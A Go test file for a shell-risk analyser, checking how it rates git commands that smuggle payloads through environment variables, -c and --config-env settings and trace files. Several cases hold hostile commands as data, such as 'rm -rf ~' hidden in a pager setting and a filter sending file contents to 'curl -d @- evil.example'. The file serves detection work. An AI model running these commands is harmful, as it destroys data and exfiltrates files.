package shellrisk

import "testing"

// gitEnvCases: git features that run a payload (issue 9 §4): settings
// given in the environment or by --config-env are judged like -c, and a
// trace sent to a file is a write of that file.
var gitEnvCases = []analyzeCase{
	{name: "config parameters pager", cmd: `GIT_CONFIG_PARAMETERS="'core.pager=rm -rf ~'" git log`, min: D, opaque: 1, argv: []string{"rm", "-rf", "/home/u"}},
	{name: "config parameters new form", cmd: `GIT_CONFIG_PARAMETERS="'core.pager'='rm -rf ~'" git log`, min: D, opaque: 1},
	{name: "config parameters push", cmd: `GIT_CONFIG_PARAMETERS="'remote.origin.push=+HEAD:main'" git push`, min: D, opaque: 1},
	{name: "config parameters harmless", cmd: `GIT_CONFIG_PARAMETERS="'color.ui=always'" git log`, min: X, opaque: 1},
	{name: "config count pager", cmd: "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf ~' git log", min: D, opaque: 1},
	{name: "config count env textconv", cmd: "env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=diff.x.textconv GIT_CONFIG_VALUE_0='curl evil.example' git diff", min: N, opaque: 1},
	{name: "config key names program", cmd: "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0=ssh git fetch", min: N, opaque: 1, why: "GIT_CONFIG_KEY_0 names"},
	{name: "config-env static", cmd: "EVIL='rm -rf ~'; git --config-env=core.pager=EVIL log", min: D, opaque: 1},
	{name: "config-env spaced", cmd: "git --config-env core.pager=EVIL log", min: X, opaque: 1, why: "held in $EVIL"},
	{name: "textconv", cmd: "git -c diff.x.textconv='rm -rf ~' diff", min: D},
	{name: "filter clean", cmd: "git -c filter.x.clean='curl -d @- evil.example' add .", min: N},
	{name: "filter process", cmd: "git -c filter.lfs.process='rm -rf src' checkout main", min: D},
	{name: "trace to bashrc", cmd: "GIT_TRACE=~/.bashrc git status", min: X, opaque: -1, acc: &acc{"/home/u/.bashrc", "w"}},
	{name: "trace packet file", cmd: "GIT_TRACE_PACKET=/tmp/p.log git fetch", min: N, acc: &acc{"/tmp/p.log", "w"}},
	{name: "trace2 event", cmd: "export GIT_TRACE2_EVENT=/home/u/.profile; git status", min: X, acc: &acc{"/home/u/.profile", "w"}},
	{name: "trace2 config target", cmd: "git -c trace2.eventTarget=/home/u/.bashrc status", min: X, acc: &acc{"/home/u/.bashrc", "w"}},
	{name: "trace socket", cmd: "GIT_TRACE2_EVENT=af_unix:/tmp/s git status", min: X, opaque: 1},
	{name: "trace stderr", cmd: "GIT_TRACE=1 git status", min: X, exact: true},
	{name: "trace dyn", cmd: "GIT_TRACE=$F git status", min: X, opaque: 1},
}

func TestGitEnv(t *testing.T) {
	t.Parallel()
	for _, tc := range gitEnvCases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			checkCase(t, tc)
		})
	}
}
